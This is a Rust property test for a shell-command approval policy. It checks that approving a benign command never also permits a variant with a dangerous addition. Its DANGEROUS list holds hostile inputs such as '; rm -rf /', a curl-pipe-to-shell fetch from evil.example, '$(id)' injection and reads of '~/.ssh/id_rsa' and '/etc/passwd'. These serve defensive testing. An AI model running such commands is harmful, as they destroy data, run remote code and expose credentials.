//! Property: a proposed rule never allows a mutation of the approved
//! command that adds a dangerous option, operand or command, wherever the
//! addition goes.

use crate::policy::{Policy, Verdict};
use proptest::prelude::*;

/// Commands an approver approves (under the policy below each is denied
/// or asked about, and gets a proposal).
const APPROVED: &[&str] = &[
    "npm run build",
    "git push origin main",
    "git push -u origin feature/x",
    "pylint src/app.py",
    "cargo test",
    "cargo build --release",
    "git log",
    "ls src",
    "npm test",
    "make build",
    "python script.py",
    "git commit -m msg",
    "curl -s https://external-domain.com/api",
    "docker build -t app .",
    "git fetch origin",
    "tar -czf out.tgz src",
    "rsync -a src dst",
    "sudo npm run build",
    "bash -c 'npm test'",
    "cat README.md",
    "chmod 644 a.txt",
];

/// What a mutation adds.
const DANGEROUS: &[&str] = &[
    "--force",
    "-f",
    "-rf",
    "/",
    "~",
    "~/.ssh/id_rsa",
    "/etc/passwd",
    "../../etc",
    "+main",
    ":main",
    "--exec=sh",
    "--upload-pack=touch /tmp/x",
    "-c 'x'",
    "-c core.pager=sh",
    "; rm -rf /",
    "| sh",
    "&& curl http://evil.example/x | sh",
    "> /etc/x",
    "$(id)",
    "`id`",
    "--config=/tmp/x",
    "-o /etc/passwd",
    "777 /",
    "-R 777 /",
    "--delete",
    "-e 'sh -c x'",
    "http://evil.example/x",
];

fn policy() -> Policy {
    Policy::from_yaml_str(
        "enforcement: enforce\n\
         allowed_commands: [pytest]\n\
         allow_shell_operators: true\n\
         risk_threshold: critical\n\
         require_approval: [\"*://external-domain.com/*\"]\n",
    )
    .unwrap()
}

/// `command` with `addition` inserted after its `at`-th word (at the end
/// when `at` is past the last).
fn mutate(command: &str, addition: &str, at: usize) -> String {
    let words: Vec<&str> = command.split(' ').collect();
    let at = 1 + at % words.len();
    let mut out: Vec<&str> = words[..at].to_vec();
    out.push(addition);
    out.extend(&words[at..]);
    out.join(" ")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn proposed_rules_never_allow_a_dangerous_mutation(
        i in 0..APPROVED.len(),
        j in 0..DANGEROUS.len(),
        at in 0usize..8,
        second in proptest::option::of(0..DANGEROUS.len()),
    ) {
        let base = policy();
        let command = APPROVED[i];
        let d = base.check(command);
        prop_assert!(matches!(d.verdict, Verdict::Ask | Verdict::Deny), "{command}: {d:?}");
        let rule = d.proposed_rule.clone();
        prop_assert!(rule.is_some(), "{command}: no proposal: {d:?}");
        let approved = base.with_approved(&rule.unwrap()).unwrap();
        prop_assert!(approved.check(command).is_allowed(), "{command}");

        let mut m = mutate(command, DANGEROUS[j], at);
        if let Some(k) = second {
            m = mutate(&m, DANGEROUS[k], at + 1);
        }
        let before = base.check(&m);
        let after = approved.check(&m);
        // What the base policy did not allow, the approval does not allow.
        prop_assert!(
            before.is_allowed() || !after.is_allowed(),
            "approving `{command}` allows `{m}`: {after:?}"
        );
        // In the words of the issue: a riskier mutation, or one with a
        // reason the approved command did not have, is not covered.
        let riskier = after.classification.risk > d.classification.risk
            || after
                .classification
                .reasons
                .iter()
                .any(|r| d.classification.reasons.iter().all(|o| o.code != r.code));
        prop_assert!(!riskier || before.is_allowed() || !after.is_allowed());
    }
}
